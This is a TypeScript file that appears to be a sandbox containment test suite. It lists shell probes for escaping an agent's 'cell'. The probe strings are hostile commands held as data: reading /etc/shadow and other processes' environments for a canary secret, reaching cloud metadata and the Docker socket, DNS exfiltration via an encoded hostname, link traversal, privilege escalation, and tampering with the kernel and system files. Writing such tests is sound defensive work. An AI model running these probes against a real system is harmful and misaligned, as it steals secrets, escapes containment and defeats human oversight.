/** What an attack may name: things of the host that it is after. */
export interface Loot {
  /** A file that every user of the host may read. */
  readonly file: string;
  /** A process of the host with the secret in its environment. */
  readonly pid: number;
  readonly port: number;
  readonly address: string;
  readonly abstract: string;
  readonly socket: string;
}

/** Attempts by title; each is a script of sh that ends well if it got something out. */
export type Attempts = Readonly<Record<string, string>>;

export function networkAttempts(loot: Loot): Attempts {
  const { port, address, abstract, socket } = loot;
  return {
    'A14: a raw socket for ICMP': socketOf(2, 3, 1),
    'A14: a datagram socket for ICMP, and a packet': `${ping('1.1.1.1')}`,
    'A14: a raw socket for TCP': socketOf(2, 3, 6),
    'A14: a raw socket for all of IP': socketOf(2, 3, 255),
    'A14: a raw socket for ICMP of IPv6': socketOf(10, 3, 58),
    'A14: a packet socket': socketOf(17, 3, 768),
    'A14: vsock, to the host of a virtual machine': socketOf(40, 1, 0),
    'A14: a socket of the kernel for ciphers': socketOf(38, 5, 0),
    'A14: Bluetooth': socketOf(31, 1, 3),
    'A14: a CAN bus': socketOf(29, 3, 1),
    'A14: TIPC': socketOf(30, 2, 0),
    'A14: XDP': socketOf(44, 3, 0),
    'A14: io_uring, which opens sockets itself': syscall(425, 4),
    'A14: TCP to the wide network': tcp('1.1.1.1', 443),
    'A14: TCP of IPv6': tcp('2606:4700:4700::1111', 443),
    'A14: TCP to a port of its own choice': tcp('1.1.1.1', 31_337),
    'A14: UDP, as QUIC has it': udp('1.1.1.1', 443),
    'A14: UDP to everybody': udp('255.255.255.255', 9),
    'A14: UDP to a group': udp('224.0.0.251', 5353),
    'A14: an abstract socket of the host': unix(`\\0${abstract}`),
    'A14: a socket file of the host': unix(socket),
    'A14: an interface more': 'ip link add probe type dummy || ip link set eth0 up',
    'A14: a route': 'ip route add default dev lo && exit 1; ip addr add 10.9.9.9/8 dev lo',
    'A14: the network of another process': 'nsenter --net=/proc/1/ns/net ip route | grep default',
    'A14: a network of its own': 'unshare --net true || unshare --user --net true',
    'A16: metadata of a cloud': tcp('169.254.169.254', 80),
    'A16: metadata of a cloud over IPv6': tcp('fd00:ec2::254', 80),
    'A16: a port of the host on its loopback': tcp('127.0.0.1', port),
    'A16: a port of the host on loopback of IPv6': tcp('::1', port),
    'A16: a port of the host by its address': tcp(address, port),
    'A16: the neighbourhood': `${tcp('192.168.0.1', 80)} || ${tcp('10.0.0.1', 80)}`,
    'A16: the gateway of containers': tcp('172.17.0.1', port),
    'A16: the socket of a container engine': `${unix('/var/run/docker.sock')} || ${unix('/run/podman/podman.sock')}`,
    'A16: the bus of the system': unix('/run/dbus/system_bus_socket'),
    'A13: a name': 'getent hosts c2VjcmV0.example.com',
    'A13: a name by the resolver of the system': udp('127.0.0.53', 53, 'read'),
    'A13: a name by a resolver of the wide network': udp('8.8.8.8', 53),
    'A13: a name by a resolver on TCP': tcp('9.9.9.9', 853),
  };
}

export function fileAttempts({ file, pid }: Loot): Attempts {
  const up = '../'.repeat(12);
  return {
    'A17: a file that everybody may read': `cat ${file}`,
    'A17: the file through the root of the first process': `cat /proc/1/root${file}`,
    'A17: the file through the root of every process': `cat /proc/[0-9]*/root${file}`,
    'A17: the file through its own root': `cat /proc/self/root${file}`,
    'A17: the environment of a process of the host': `cat /proc/${pid}/environ`,
    'A17: the environment of every process':
      'cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep CANARY',
    'A17: processes with their environment': 'ps auxe | grep CANARY | grep -v grep',
    'A17: descriptors of other processes': `cat /proc/1/fd/* /proc/${pid}/fd/*`,
    'A17: memory of the first process': 'head -c 1 /proc/1/mem',
    'A17: memory of the machine': 'head -c 1 /dev/mem || head -c 1 /proc/kcore',
    'A17: messages of the kernel': 'dmesg || head -c 1 /dev/kmsg',
    'A17: passwords': 'cat /etc/shadow || cat /etc/gshadow',
    'A17: the home of root': 'ls /root',
    'A17: homes of others': 'ls /home | grep -v "^agent$"',
    'A17: what varies': 'ls /var /srv /mnt /media',
    'A17: the devices of the machine': 'ls /sys /dev/sda /dev/vda /dev/kvm /dev/fuse',
    'A17: keys of the kernel': `${syscall(250, 0, 4294967293, 0)} || cat /proc/keys | grep .`,
    'A17: a signal to a process of the host': `kill -0 ${pid}`,
    'A18: up and out of the work folder': `cat ${up}${file.slice(1)}`,
    'A18: up and out through the folder of a process': `cat /proc/self/cwd/${up}${file.slice(1)}`,
    'A18: a link in the work folder': `ln -s ${file} link && cat link`,
    'A18: a link to a folder': 'ln -s / out && cat out/etc/shadow',
    'A18: a link to a link': `ln -s ${file} a; ln -s a b && cat b`,
    'A18: a hard link': `ln ${file} hard || ln /proc/1/root${file} hard`,
    'A18: a hard link to a program': 'ln /usr/bin/su suid',
    'A18: a bind mount': 'mkdir -p m; mount --bind /proc/1/root m || mount -o bind / m',
    'A18: another root': 'chroot /proc/1/root true',
    'A18: a device': 'mknod disk b 8 0 || mknod mem c 1 1',
    'A18: a file by its handle': syscall(304, -1, 0, 0),
    'A18: a file without a bit of its name': `cat ${file.toUpperCase()}`,
    'A18: the program of another process': `/proc/${pid}/exe --version`,
    'A18: a program that gains rights': 'cp /usr/bin/id i && chmod u+s i && ./i | grep "euid=0"',
    'A18: root by su or sudo': 'su -c true || sudo -n true',
    'A18: another user': 'setpriv --reuid 0 true || setpriv --reuid 1000 true',
    'A18: the root folder': 'touch /probe || mkdir /probe',
    'A18: programs of the system':
      'touch /usr/bin/probe || rm /usr/bin/env || echo x >> /etc/hosts',
    'A18: programs of the cell': 'echo x >> /opt/hall/bin/node || rm -f /opt/hall/bin/node',
    'A18: settings of the kernel':
      'for s in kernel/core_pattern vm/panic_on_oom kernel/hostname; do echo x > /proc/sys/$s && exit 0; done; exit 1',
    'A18: a module of the kernel': 'modprobe dummy || insmod x.ko',
  };
}

function socketOf(family: number, type: number, protocol: number): string {
  return `perl -e 'socket(my $s, ${family}, ${type}, ${protocol}) or exit 1'`;
}

function syscall(...values: readonly number[]): string {
  return `perl -e 'my $b = "\\0" x 256; exit(syscall(${values.join(', ')}, $b) < 0 ? 1 : 0)'`;
}

function ping(address: string): string {
  return `perl -MSocket -e 'socket(my $s, 2, 2, 1) or exit 1; send($s, "\\x08" . "\\0" x 7, 0, pack_sockaddr_in(0, inet_aton("${address}"))) or exit 1'`;
}

/** Reached, or on its way without an answer: both have left the cell. */
function tcp(host: string, port: number): string {
  const act = `const s = require("node:net").connect({ host: "${host}", port: ${port}, timeout: 20000 })`;
  const ends = `.on("connect", () => process.exit(0)).on("timeout", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e '${act}${ends}'`;
}

function udp(host: string, port: number, mode: 'send' | 'read' = 'send'): string {
  const sent =
    mode === 'send' ? '(e) => process.exit(e ? 1 : 0)' : '(e) => { if (e) process.exit(1) }';
  const act = `const s = require("node:dgram").createSocket("udp4").on("message", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e '${act}; s.send("x", ${port}, "${host}", ${sent}); setTimeout(() => process.exit(1), 300)'`;
}

function unix(path: string): string {
  const ends = `.on("connect", () => process.exit(0)).on("error", () => process.exit(1))`;
  return `node -e 'require("node:net").connect("${path}")${ends}'`;
}
